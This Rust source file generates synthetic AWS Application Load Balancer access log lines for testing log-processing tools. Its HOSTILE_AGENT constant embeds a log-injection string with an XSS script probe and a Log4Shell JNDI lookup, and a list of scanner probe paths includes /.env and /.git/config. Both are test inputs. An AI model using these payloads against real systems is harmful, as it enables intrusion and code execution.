//! One line of an Application Load Balancer's access log as AWS writes it today: 34 fields.
//!
//! Field order and escapes (`\x22` for a quote, `\xHH` for other bytes) follow "Access logs for your Application Load
//! Balancer" in the AWS documentation; the 34th field, the node's address, is in real logs since 2026.

use crate::time::{Day, Minute};

use super::fleet::{ACCOUNT, Balancer, Callers, REGION};
use super::rng::{Rng, floor, text_to_seed};
use super::traffic::Exchange;

/// User agents of browsers and robots, as the log escapes them.
const PUBLIC_AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "ShopApp/7.4.1 (\\x22Pixel 9\\x22; Android 16)",
    "ShopApp/7.4.0 (iOS 19.1)",
    "curl/8.16.0",
    "-",
    "caf\\xC3\\xA9-monitor/1.0",
];
/// One that tries to break its readers.
const HOSTILE_AGENT: &str =
    "\\x22 503 - - \\x22><script>alert(1)</script>\\x5C\\x22 ${jndi:ldap://198.51.100.9/a} \\xF0\\x9F\\x94\\xA5";
const PARTNER_AGENTS: &[&str] =
    &["okhttp/5.1.0", "Apache-HttpClient/5.5 (Java/21.0.4)", "python-requests/2.32.5", "acme-sync \\x22prod\\x22/3"];
const INTERNAL_AGENTS: &[&str] = &["grpc-go/1.75.0", "Go-http-client/2.0", "reqwest/0.12.23", "-"];
/// What scanners ask for.
const SCAN_PATHS: &[&str] =
    &["/", "/.env", "/wp-login.php", "/boaform/admin/formLogin", "/actuator/health", "/.git/config"];
const WORDS: &[&str] = &["lamp", "teapot", "desk", "caf%C3%A9", "rug", "chair", "stool", "NL", "DE", "JP"];

/// Writes the lines of one node.
pub(super) struct LineWriter {
    balancer: &'static Balancer,
    node: &'static str,
    text: Vec<u8>,
    cached_date: Option<(Day, String)>,
}

impl LineWriter {
    /// An empty log with capacity for this many bytes.
    pub(super) fn new(balancer: &'static Balancer, node: &'static str, capacity: usize) -> Self {
        Self { balancer, node, text: Vec::with_capacity(capacity), cached_date: None }
    }

    /// The log.
    pub(super) fn into_text(self) -> Vec<u8> {
        self.text
    }

    /// One line.
    pub(super) fn write_line(&mut self, exchange: &Exchange, rng: &mut Rng) {
        let created_us = exchange.time_us - exchange.elapsed_us;
        self.push(exchange.scheme);
        self.push(" ");
        self.write_time(exchange.time_us);
        self.push(" ");
        self.push(self.balancer.name);
        self.push(" ");
        self.write_client(exchange.callers, rng);
        self.push(" ");
        self.write_target(exchange);
        self.write_times_and_sizes(exchange, rng);
        self.push(" \"");
        self.write_request(exchange, rng);
        self.push("\" \"");
        let is_hostile = exchange.callers == Callers::Public && rng.draw_ppm(2_000);
        let agent = rng.choose(user_agents(exchange.callers)).copied().unwrap_or("-");
        self.push(if is_hostile { HOSTILE_AGENT } else { agent });
        self.push("\" ");
        self.write_tail_fields(exchange, created_us, rng);
        self.push("\n");
    }

    /// Fields 6 to 12.
    fn write_times_and_sizes(&mut self, exchange: &Exchange, rng: &mut Rng) {
        for time_ms in exchange.processing_ms {
            let Some(ms) = time_ms else {
                self.push(" -1");
                continue;
            };
            self.push(" ");
            self.write_number(ms / 1_000, 1);
            self.push(".");
            self.write_number(ms % 1_000, 3);
        }
        self.push(" ");
        self.write_number(exchange.status.into(), 3);
        self.push(" ");
        self.write_target_status(exchange);
        let (received, sent) = exchange.route.map_or((180, 300), |route| route.median_bytes);
        let sent = if exchange.status >= 400 { 320 } else { sent };
        for middle in [received, if exchange.status == 460 { 0 } else { sent }] {
            self.push(" ");
            self.write_number(floor(rng.log_normal(middle.into(), 0.3)), 1);
        }
    }

    /// Fields 15 to 34.
    fn write_tail_fields(&mut self, exchange: &Exchange, created_us: i64, rng: &mut Rng) {
        let is_encrypted = exchange.scheme != "http";
        self.push(if is_encrypted { "TLS_AES_128_GCM_SHA256 TLSv1.3 " } else { "- - " });
        if let Some(group) = exchange.target_group {
            self.write_arn("elasticloadbalancing", "targetgroup/", group);
            self.push("/");
            self.write_hex(Rng::from_seeds(&[text_to_seed(group)]).next_u64(), 16);
        } else {
            self.push("-");
        }
        self.push(" \"");
        if exchange.action == "-" {
            self.push("-");
        } else {
            self.push("Root=1-");
            self.write_hex(created_us.div_euclid(1_000_000).unsigned_abs(), 8);
            self.push("-");
            self.write_hex(rng.next_u64(), 16);
            self.write_hex(rng.next_u64(), 8);
        }
        self.push("\" \"");
        if is_encrypted {
            self.write_host(exchange);
            self.push("\" \"");
            self.write_arn("acm", "certificate/", "7d1f0c52-93ab-4e60-8f1d-");
            self.write_hex(text_to_seed(self.balancer.name), 12);
        } else {
            self.push("-\" \"-");
        }
        self.push("\" ");
        let rule = exchange.service.map_or(0, |service| u64::from(service.rule_priority));
        self.push(if exchange.action == "-" { "-" } else { "" });
        if exchange.action != "-" {
            self.write_number(rule, 1);
        }
        self.push(" ");
        self.write_time(created_us);
        self.push(" \"");
        self.push(exchange.action);
        self.push("\" \"");
        if exchange.action == "redirect" {
            self.push("https://");
            self.write_host(exchange);
            self.push(":443");
            self.push(exchange.route.map_or("/", |route| route.path));
        } else {
            self.push("-");
        }
        self.push("\" \"-\" \"");
        self.write_target(exchange);
        self.push("\" \"");
        self.write_target_status(exchange);
        self.push("\" \"-\" \"-\" TID_");
        self.write_hex(rng.next_u64(), 16);
        self.write_hex(rng.next_u64(), 16);
        self.push(" \"-\" \"-\" \"-\" ");
        self.push(self.node);
    }

    /// The request line: what the caller sent.
    fn write_request(&mut self, exchange: &Exchange, rng: &mut Rng) {
        if exchange.action == "-" {
            return self.push("- http://shop.example.com:80- -");
        }
        self.push(exchange.route.map_or("GET", |route| route.method));
        self.push(if exchange.scheme == "http" { " http://" } else { " https://" });
        self.write_host(exchange);
        self.push(if exchange.scheme == "http" { ":80" } else { ":443" });
        match exchange.route {
            Some(route) => self.write_path(route.path, rng),
            None => self.push(rng.choose(SCAN_PATHS).copied().unwrap_or("/")),
        }
        self.push(if matches!(exchange.scheme, "h2" | "grpcs") { " HTTP/2.0" } else { " HTTP/1.1" });
    }

    /// A path with its blanks filled in.
    fn write_path(&mut self, path: &str, rng: &mut Rng) {
        let mut rest = path;
        while let Some((before, after)) = rest.split_once('{') {
            self.push(before);
            let (placeholder, after) = after.split_once('}').unwrap_or((after, ""));
            match placeholder {
                "n" => self.write_number(rng.next_below(99_000) + 1, 1),
                "x" => self.write_hex(rng.next_u64(), 16),
                _ => self.push(rng.choose(WORDS).copied().unwrap_or("lamp")),
            }
            rest = after;
        }
        self.push(rest);
    }

    /// The host that was asked for: of the service, or the bare address that scanners use.
    fn write_host(&mut self, exchange: &Exchange) {
        match exchange.service {
            Some(service) => {
                self.push(service.name);
                self.push(".example.com");
            }
            None => self.push(self.node),
        }
    }

    /// Address and port of a caller, from ranges that are kept for tests and documentation (RFC 2544, 3849, 5737).
    fn write_client(&mut self, callers: Callers, rng: &mut Rng) {
        let draw = rng.next_u64();
        let byte = |n: u32| (draw >> (8 * n)) & 0xFF;
        match callers {
            Callers::Public if byte(0) < 48 => {
                self.push("2001:db8:");
                self.write_hex(byte(1) | 0x100, 1);
                self.push(":");
                self.write_hex(byte(2) | 0x3200, 1);
                self.push("::");
                self.write_hex(byte(3) | 0x1000, 1);
            }
            Callers::Public => self.write_address("198.", &[18 + byte(0) % 2, byte(1), byte(2)]),
            Callers::Partners => self.write_address("192.0.2.", &[10 + byte(1) % 6]),
            Callers::Internal => self.write_address("10.0.", &[byte(1) % 16, 4 + byte(2) % 250]),
        }
        self.push(":");
        self.write_number(1_024 + ((draw >> 32) % 64_000), 1);
    }

    /// Address and port of the target, or a dash.
    fn write_target(&mut self, exchange: &Exchange) {
        let (Some(target), Some(service)) = (exchange.target_index, exchange.service) else {
            return self.push("-");
        };
        self.write_address("10.0.", &[64 + u64::from(service.rule_priority), 10 + target]);
        self.push(":8080");
    }

    fn write_address(&mut self, start: &str, parts: &[u64]) {
        self.push(start);
        for (place, part) in parts.iter().enumerate() {
            self.push(if place == 0 { "" } else { "." });
            self.write_number(*part, 1);
        }
    }

    fn write_target_status(&mut self, exchange: &Exchange) {
        match exchange.target_status {
            Some(status) => self.write_number(status.into(), 3),
            None => self.push("-"),
        }
    }

    fn write_arn(&mut self, service: &str, kind: &str, name: &str) {
        for part in ["arn:aws:", service, ":", REGION, ":", ACCOUNT, ":", kind, name] {
            self.push(part);
        }
    }

    /// `2026-10-07T07:15:03.123456Z`.
    fn write_time(&mut self, time_us: i64) {
        let day = Minute::from_unix_seconds(time_us.div_euclid(1_000_000)).day();
        // Nearly all lines of a file share their day, and writing a date costs more than the rest of a line.
        let date = match self.cached_date.take() {
            Some(known) if known.0 == day => known,
            _ => (day, day.to_string()),
        };
        self.push(&date.1);
        self.cached_date = Some(date);
        let us_of_day = time_us.rem_euclid(86_400_000_000).unsigned_abs();
        let seconds = us_of_day / 1_000_000;
        for (mark, number) in [("T", seconds / 3_600), (":", seconds / 60 % 60), (":", seconds % 60)] {
            self.push(mark);
            self.write_number(number, 2);
        }
        self.push(".");
        self.write_number(us_of_day % 1_000_000, 6);
        self.push("Z");
    }

    fn push(&mut self, text: &str) {
        self.text.extend_from_slice(text.as_bytes());
    }

    /// Decimal digits, with zeros in front up to the width.
    fn write_number(&mut self, number: u64, width: usize) {
        self.write_digits::<10>(number, width);
    }

    /// The last `width` hexadecimal digits; with a width of 1 or 16, all of them.
    fn write_hex(&mut self, number: u64, width: usize) {
        let kept = if width >= 16 || width == 1 { number } else { number % (1 << (4 * width)) };
        self.write_digits::<16>(kept, width);
    }

    /// A base that is known to the compiler needs no division, and digits are most of a line.
    fn write_digits<const BASE: u64>(&mut self, mut number: u64, width: usize) {
        let mut digits = [b'0'; 20];
        let mut used = 0;
        for slot in digits.iter_mut().rev() {
            if number == 0 && used >= width {
                break;
            }
            let digit = (number % BASE).to_le_bytes()[0];
            *slot = if digit < 10 { b'0' + digit } else { b'a' + digit - 10 };
            number /= BASE;
            used += 1;
        }
        self.text.extend_from_slice(digits.get(digits.len() - used..).unwrap_or_default());
    }
}

/// Who says what they are.
const fn user_agents(callers: Callers) -> &'static [&'static str] {
    match callers {
        Callers::Public => PUBLIC_AGENTS,
        Callers::Partners => PARTNER_AGENTS,
        Callers::Internal => INTERNAL_AGENTS,
    }
}
